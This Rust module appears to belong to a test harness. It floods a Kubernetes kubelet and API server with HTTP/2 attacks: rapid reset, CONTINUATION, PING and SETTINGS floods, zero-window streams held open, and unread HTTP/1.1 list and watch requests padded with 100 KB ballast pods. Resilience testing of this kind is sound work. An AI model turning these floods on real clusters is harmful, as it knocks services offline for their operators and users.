//! Clients that ask and do not read, and frames without end.
//!
//! In:    the kubelet's port and the API server's: both speak HTTP/2, which is agreed upon by TLS alone
//! Out:   how many requests and frames were sent
//! Calls: floods
//! Holds: eight connections of HTTP/2; 200 of HTTP/1
//! Upstream: none

use std::io::Write as _;
use std::time::Duration;

use rig::http::{Credential, Http, Secure, Wire};
use rig::node::NODE_NAME;
use serde_json::json;

use crate::flood::Span;
use crate::frames::Frames;
use crate::identities::of_node;
use crate::target::{ADMIN, PODS, Target, VIEWER, asked, pod};

const CONNECTIONS: usize = 8;
/// Connections of HTTP/1.1.
const READERS: usize = 200;

/// Objects that make lists long: 30 rejected pods of 100 KB on this node.
pub(super) fn many_pods(target: &Target<'_>) -> anyhow::Result<()> {
    let mut api = target.api();
    for number in 0..30 {
        let mut pod = pod(
            &target.machine.image,
            &format!("large-{number}"),
            "Never",
            "exit 0",
        );
        pod["metadata"]["annotations"] = json!({"attack/ballast": "b".repeat(100_000)});
        pod["spec"]["nodeName"] = json!(NODE_NAME);
        // No node has it, so none of them ever runs.
        pod["spec"]["nodeSelector"] = json!({"attack": "nowhere"});
        asked(&mut api, "POST", PODS, Some(&pod))?;
    }
    Ok(())
}

/// The list that a node's credential may have.
fn own_pods() -> String {
    format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{NODE_NAME}")
}

/// On eight connections, opened anew when they are closed: `work` until the end.
fn on_connections(
    (port, secure): (u16, Option<&Secure>),
    window: u32,
    span: &Span,
    work: impl Fn(&mut Frames) -> anyhow::Result<usize>,
) -> String {
    let (mut held, mut opened, mut done) = (Vec::<Frames>::new(), 0_usize, 0_usize);
    while span.goes_on() {
        while held.len() < CONNECTIONS && span.goes_on() {
            match Frames::open(port, secure, window) {
                Ok(frames) => held.push(frames),
                Err(_) => break,
            }
            opened += 1;
        }
        held.retain_mut(|frames| {
            if !span.goes_on() {
                return true;
            }
            match work(frames) {
                Ok(count) => {
                    done += count;
                    frames.drain()
                }
                Err(_) => false,
            }
        });
        if held.is_empty() {
            rig::clock::pause_ms(20);
        }
    }
    format!(
        "{opened} connections opened, {done} sent, {} open at the end",
        held.len()
    )
}

/// Streams on which nothing may be sent, more and more of them, and PINGs that keep them.
fn zero_window((port, secure): (u16, Option<&Secure>), path: &str, span: &Span) -> String {
    on_connections((port, secure), 0, span, |frames| {
        for _ in 0..50 {
            frames.get(path)?;
        }
        frames.pings(1)?;
        rig::clock::pause_ms(10);
        Ok(50)
    })
}

/// Of an administrator: a long answer is not for everybody.
pub(super) fn zero_window_main(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    let secure = h2(&Credential::Token(ADMIN.to_owned()))?;
    Ok(zero_window(
        (target.ports.main, Some(&secure)),
        "/metrics",
        span,
    ))
}

fn h2(who: &Credential) -> anyhow::Result<Secure> {
    Secure::client(who, &["h2"])
}

fn rightless() -> anyhow::Result<Secure> {
    h2(&Credential::Token(VIEWER.to_owned()))
}

pub(super) fn zero_window_api(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    let secure = h2(&of_node(target)?)?;
    Ok(zero_window(
        (target.ports.api, Some(&secure)),
        &own_pods(),
        span,
    ))
}

type Frame = fn(&mut Frames) -> anyhow::Result<usize>;

fn ping(frames: &mut Frames) -> anyhow::Result<usize> {
    frames.pings(1000).map(|()| 1000)
}

fn setting(frames: &mut Frames) -> anyhow::Result<usize> {
    frames.settings(1000).map(|()| 1000)
}

fn endless(frames: &mut Frames) -> anyhow::Result<usize> {
    frames.endless_head(500).map(|()| 500)
}

fn reset(frames: &mut Frames) -> anyhow::Result<usize> {
    frames.rapid_reset("/api/v1/pods", 1000).map(|()| 1000)
}

fn at_the_kubelet(target: &Target<'_>, span: &Span, frame: Frame) -> anyhow::Result<String> {
    let secure = rightless()?;
    Ok(on_connections(
        (target.ports.main, Some(&secure)),
        65_535,
        span,
        frame,
    ))
}

fn at_the_api(target: &Target<'_>, span: &Span, frame: Frame) -> anyhow::Result<String> {
    let secure = rightless()?;
    Ok(on_connections(
        (target.ports.api, Some(&secure)),
        65_535,
        span,
        frame,
    ))
}

pub(super) fn pings(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_kubelet(target, span, ping)
}

pub(super) fn settings(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_kubelet(target, span, setting)
}

pub(super) fn continuation(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_kubelet(target, span, endless)
}

pub(super) fn rapid_reset(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_kubelet(target, span, reset)
}

pub(super) fn pings_api(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_api(target, span, ping)
}

pub(super) fn continuation_api(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_api(target, span, endless)
}

pub(super) fn rapid_reset_api(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    at_the_api(target, span, reset)
}

/// Asks on 200 connections, several times each, and never reads.
fn unread(target: &Target<'_>, path: &str, times: usize, span: &Span) -> anyhow::Result<String> {
    let secure = Secure::client(&of_node(target)?, &[])?;
    let request = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").repeat(times);
    let mut held = Vec::new();
    for _ in 0..READERS {
        if !span.goes_on() {
            break;
        }
        let Ok(mut wire) = Wire::open(target.ports.api, Some(&secure), Duration::from_secs(2))
        else {
            continue;
        };
        if wire
            .write_all(request.as_bytes())
            .and_then(|()| wire.flush())
            .is_ok()
        {
            held.push(wire);
        }
    }
    Ok(format!(
        "{} connections with {times} requests each, unread",
        held.len()
    ))
    .inspect(|_| {
        span.sit_out();
        drop(held);
    })
}

pub(super) fn unread_lists(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    unread(target, &own_pods(), 3, span)
}

/// Watches, and an object that changes under them.
pub(super) fn unread_watches(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    let path = format!("{}&watch=true&resourceVersion=0", own_pods());
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let mut number = 0;
            let mut api: Http = target.api();
            span.every(100, || {
                number += 1;
                let change =
                    json!({"metadata": {"annotations": {"attack/number": number.to_string()}}});
                // A server that does not answer is what the flood is about.
                let _changed = asked(&mut api, "PATCH", &format!("{PODS}/large-0"), Some(&change));
            });
        });
        unread(target, &path, 1, span)
    })
}
